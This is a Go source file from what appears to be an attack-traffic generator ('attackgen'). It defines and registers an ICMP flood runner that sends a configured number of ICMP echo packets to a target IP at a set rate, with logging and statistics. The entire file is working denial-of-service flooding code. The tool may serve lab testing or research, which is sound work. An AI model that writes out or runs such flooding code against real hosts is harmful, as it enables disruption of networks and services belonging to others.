package generator

import (
	"fmt"
	"time"

	"github.com/nsrg-lab/attackgen/config"
	"github.com/nsrg-lab/attackgen/pacer"
	"github.com/nsrg-lab/attackgen/packet"
	"github.com/nsrg-lab/attackgen/socketeer"
	"github.com/nsrg-lab/attackgen/stats"
)

type IcmpFloodRunner struct {
	options *config.IcmpFloodOptions
	sender  socketeer.PayloadSender

	addLog   func(string) bool
	addError func(error) bool
	record   func(stats.AttackRecord) bool
}

func init() {
	if err := AddRunner("icmp_flood", NewIcmpFlood); err != nil {
		panic(err)
	}
}

func NewIcmpFlood(p RunnerInitParams) Runner {

	r := IcmpFloodRunner{
		options:  p.Options.(*config.IcmpFloodOptions),
		sender:   p.Sender,
		addLog:   p.LogFunc,
		addError: p.ErrFunc,
		record:   p.RecordFunc,
	}

	return &r
}

func (r *IcmpFloodRunner) Run() error {

	if err := r.sender.Open(); err != nil {
		return fmt.Errorf("icmp flood: %w", err)
	}

	defer func() {
		if err := r.sender.Close(); err != nil {
			r.addError(err)
		}
	}()

	rec := stats.AttackRecord{
		Kind:           stats.IcmpFlood,
		RequestedCount: r.options.Count,
		TargetRate:     r.options.Rate,
	}

	r.addLog(fmt.Sprintf("icmp flood: %d packets to %s at %d pps",
		r.options.Count, r.options.TargetIP, r.options.Rate))

	p := pacer.New(r.options.Rate)
	start := time.Now()
	lastReport := start

	for i := 0; i < r.options.Count; i++ {

		// Echo sequence increases monotonically per packet; the
		// identifier is re-randomized inside the builder.
		pkt := packet.BuildICMPEcho(uint16(i))

		if i == 0 {
			r.addLog("icmp flood first packet: " + packet.Describe(pkt, false))
		}

		if err := r.sender.Send(pkt); err != nil {
			rec.Failed++
		} else {
			rec.Sent++
		}

		p.Pace()

		if time.Since(lastReport) >= time.Second {
			r.addLog(fmt.Sprintf("icmp flood: sent %d/%d", rec.Sent, r.options.Count))
			lastReport = time.Now()
		}
	}

	rec.Finalize(time.Since(start))
	r.record(rec)

	r.addLog(fmt.Sprintf("icmp flood completed: sent %d, failed %d, %.2fs, %.0f pps actual",
		rec.Sent, rec.Failed, rec.Duration.Seconds(), rec.ActualRate))

	return nil
}
